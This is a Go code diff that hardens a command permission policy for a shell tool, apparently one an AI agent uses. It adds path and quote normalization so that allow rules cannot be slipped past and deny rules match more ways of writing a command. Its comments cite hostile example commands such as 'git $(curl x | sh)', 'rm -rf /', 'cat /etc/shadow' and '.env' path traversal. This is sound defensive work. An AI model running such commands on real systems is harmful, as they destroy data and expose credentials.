@@ -3,7 +3,6 @@ package policy
 import (
 	"errors"
 	"fmt"
-	"path"
 	"strings"
 )
 
@@ -11,17 +10,17 @@ import (
 // denied outright (see Decide), so matching stays cheap on any input.
 const maxArgBytes = 64 << 10
 
-// touchWords is how many leading words of each command segment may be
-// skipped when deny and requireApproval patterns look for the command
-// (sudo, env, nohup, then, do, FOO=1, ...).
-const touchWords = 8
-
 // rule is one parsed entry such as "exec_shell" or "exec_shell(git status*)".
 type rule struct {
 	text   string // as written (trimmed), for explanations
 	tool   string // tool-name glob
 	arg    string // normalized argument glob; "" for a bare rule
 	hasArg bool
+	// form is arg in the form allow patterns match in (see allowForm);
+	// formErr says why it has none, and then the rule allows nothing
+	// by its pattern.
+	form    string
+	formErr error
 }
 
 // errRule is wrapped by every rule syntax error.
@@ -48,6 +47,7 @@ func parseRule(s string) (rule, error) {
 		if c, bad := controlChar(r.arg); bad {
 			return rule{}, fmt.Errorf("%w %q: control character %q in the argument pattern", errRule, s, c)
 		}
+		r.form, r.formErr = allowForm(r.arg, true)
 	}
 	if err := checkToolGlob(r.tool); err != nil {
 		return rule{}, fmt.Errorf("%w %q: %w", errRule, s, err)
@@ -139,36 +139,47 @@ func controlChar(s string) (rune, bool) {
 type command struct {
 	present bool   // the call has an argument at all
 	line    string // the whole argument, normalized
-	// segments are the simple commands between shell control operators;
-	// nil when the argument is unsafe (see unsafeReason).
-	segments []string
-	unsafe   string   // why no argument pattern can allow this call, or ""
-	touch    []string // every text a deny or requireApproval pattern is tried on
+	// segments are the simple commands between shell control operators,
+	// and forms their allow forms (see allowForm); nil when the argument
+	// is unsafe (see unsafe).
+	segments, forms []string
+	unsafe          string   // why no argument pattern can allow this call, or ""
+	touch           []string // every text a deny or requireApproval pattern is tried on
 }
 
 // parseCommand analyses a call's argument.
 //
 // Allowing is strict: an allow pattern must match every segment between
 // control operators (; & | && || |& newline), so "git status*" does not
-// allow "git status; rm -rf /". Quotes are not interpreted: an operator
-// inside quotes still splits, which can only make a call less allowed.
-// An argument with command substitution ($( or a backtick) or a
-// redirection (< or >) is never allowed by an argument pattern: what it
-// runs or writes is not visible in the text of its segments ("git
-// $(curl x | sh)", "git status > ~/.bashrc"), so only a rule without
-// parentheses, one that allows every call of the tool, allows it. The same
-// holds for control characters other than blanks and newlines.
+// allow "git status; rm -rf /". An operator inside quotes still splits,
+// which can only make a call less allowed. Each segment is matched in its
+// allow form (allowForm): quotes removed, paths cleaned of "." and "//",
+// and ".." kept apart so that no wildcard matches it: "cat docs/*" allows
+// "cat ./docs/a.md" but not "cat docs/../.env", "cat docs/'..'/.env" or
+// "cat docs/.?/.env". An argument with command substitution ($( or a
+// backtick), a redirection (< or >), parameter expansion ($ outside single
+// quotes), brace expansion or an unterminated quote is never allowed by
+// an argument pattern: what it runs, reads or writes is not visible in the
+// text of its segments ("git $(curl x | sh)", "git status > ~/.bashrc",
+// "cat docs/${x:-..}/.env"), so only a rule without parentheses, one that
+// allows every call of the tool, allows it. The same holds for control
+// characters other than blanks and newlines.
 //
 // Refusing is broad: deny and requireApproval patterns are tried on the
 // whole line, on each segment, on the pieces between any shell
 // punctuation (substitutions, subshells, groups, redirections), each also
-// with quotes and backslashes removed, and on each of these starting at
-// one of its first words, with a path before the command name dropped: so
-// "rm *" also refuses "sudo rm -rf /", "if x; then rm -rf /; fi",
-// "echo $(rm -rf /)", "/bin/rm -rf /" and "r'm' -rf /". This is defence in
-// depth, not a sandbox: a shell can run "rm" in ways no pattern foresees
-// (bash -c, eval, xargs, aliases, scripts). The boundary is the allow
-// list; deny patterns on arguments catch mistakes, not attackers.
+// with quotes and backslashes removed and with its paths cleaned
+// (path.Clean, ".." included), and each from the start of any of its words
+// or path segments: so "rm *" also refuses "sudo rm -rf /",
+// "A=1 B=2 rm -rf /", "if x; then rm -rf /; fi", "echo $(rm -rf /)",
+// "/bin/rm -rf /" and "r'm' -rf /", and "cat /etc/shadow" refuses
+// "cat /etc/../etc//shadow".
+// This is defence in depth, not a sandbox: a shell can run "rm" in ways no
+// pattern foresees (bash -c, eval, xargs, aliases, scripts). The boundary
+// is the allow list; deny patterns on arguments catch mistakes, not
+// attackers. Decide also refuses every command whose command word is not
+// a literal (checkCommandWords), the one way around deny patterns a line
+// shows plainly.
 func parseCommand(arg string) command {
 	if arg == "" {
 		return command{}
@@ -185,11 +196,21 @@ func parseCommand(arg string) command {
 		}
 	}
 	segs := split(arg, ";&|\n\r")
+	if c.unsafe == "" && len(segs) == 0 {
+		c.unsafe = "no command"
+	}
 	if c.unsafe == "" {
-		if len(segs) == 0 {
-			c.unsafe = "no command"
-		} else {
-			c.segments = segs
+		forms := make([]string, len(segs))
+		for i, seg := range segs {
+			f, err := allowForm(seg, false)
+			if err != nil {
+				c.unsafe = err.Error()
+				break
+			}
+			forms[i] = f
+		}
+		if c.unsafe == "" {
+			c.segments, c.forms = segs, forms
 		}
 	}
 	seen := map[string]bool{}
@@ -204,16 +225,13 @@ func parseCommand(arg string) command {
 		add(s)
 	}
 	dequote := strings.NewReplacer("'", "", `"`, "", `\`, "")
-	for _, piece := range split(arg, ";&|\n\r`(){}<>") {
-		for _, v := range []string{piece, normalize(dequote.Replace(piece))} {
-			words := strings.Split(v, " ")
-			for i := 0; i < len(words) && i < touchWords; i++ {
-				add(strings.Join(words[i:], " "))
-				if strings.Contains(words[i], "/") {
-					add(strings.Join(append([]string{path.Base(words[i])}, words[i+1:]...), " "))
-				}
-			}
-		}
+	// A backslash-newline joins two lines into one word: "r\<newline>m".
+	joined := strings.ReplaceAll(arg, "\\\n", "")
+	for _, piece := range split(joined, ";&|\n\r`(){}<>") {
+		add(piece)
+		plain := normalize(dequote.Replace(piece))
+		add(plain)
+		add(cleanWords(plain))
 	}
 	return c
 }
@@ -241,8 +259,8 @@ func (r rule) touches(c command) (bool, string) {
 		return false, ""
 	}
 	for _, t := range c.touch {
-		if glob(r.arg, t) {
-			return true, t
+		if at, ok := globFrom(r.arg, t); ok {
+			return true, t[at:]
 		}
 	}
 	return false, ""
@@ -254,13 +272,14 @@ func (r rule) covers(u unit) bool {
 	if !r.hasArg {
 		return true
 	}
-	return u.safe && glob(r.arg, u.text)
+	return u.safe && r.formErr == nil && globDotdot(r.form, u.form)
 }
 
 // unit is what one allow decision is made on: a segment of a safe command,
 // the whole of an unsafe one, or a call without an argument.
 type unit struct {
-	text string
+	text string // as written (normalized), for reasons
+	form string // its allow form, for a safe unit
 	safe bool
 }
 
@@ -274,7 +293,7 @@ func (c command) units() []unit {
 	}
 	us := make([]unit, len(c.segments))
 	for i, s := range c.segments {
-		us[i] = unit{text: s, safe: true}
+		us[i] = unit{text: s, form: c.forms[i], safe: true}
 	}
 	return us
 }
